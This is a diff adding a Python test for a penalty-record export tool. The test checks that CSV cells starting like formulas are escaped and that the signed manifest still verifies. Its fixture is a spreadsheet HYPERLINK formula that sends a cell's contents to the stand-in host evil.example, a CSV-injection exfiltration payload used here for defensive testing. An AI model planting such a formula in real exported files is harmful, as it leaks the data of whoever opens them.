@@ -86,3 +86,32 @@ def test_added_or_removed_files_fail_and_a_foreign_key_is_refused(runtime: Runti
     assert manifest.verify_directory(out, public_keys=manifest.read_key_file(key_file)).problems == [
         "manifest.json: signature does not verify"
     ]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
+
+
+def test_cells_that_start_like_a_formula_are_escaped_and_the_export_still_verifies(
+    runtime: Runtime, tmp_path: Path
+) -> None:
+    sent = [penalty(0, 处罚依据=FORMULA), penalty(1, 处罚内容="+罚款人民币5000元"), penalty(2)]
+    department = store(runtime, sent)
+    summary = checked_batch(runtime, department)
+    approve_confirm_publish(runtime, summary.id)
+    out = tmp_path / "export"
+    export.export_batch(engine=runtime.engine, transit=runtime.transit, officer=OFFICER_A,
+                        batch_id=summary.id, directory=out)
+
+    stem = next(out.glob("*.csv")).stem
+    rows = list(csv.DictReader(io.StringIO((out / f"{stem}.csv").read_text(encoding="utf-8-sig"))))
+    by_basis = sorted(row["处罚依据"] for row in rows)
+    assert "'" + FORMULA in by_basis and FORMULA not in by_basis
+    assert "'+罚款人民币5000元" in {row["处罚内容"] for row in rows}
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
+    # The JSON is data, not a spreadsheet: it keeps the published value as it is.
+    document = json.loads((out / f"{stem}.json").read_text(encoding="utf-8"))
+    assert FORMULA in {record["处罚依据"] for record in document["records"]}
+    # The manifest signs the escaped bytes: the export verifies against the hub's key.
+    assert manifest.verify_directory(out, public_keys=runtime.transit.public_keys(HUB_SIGNING_KEY)).ok
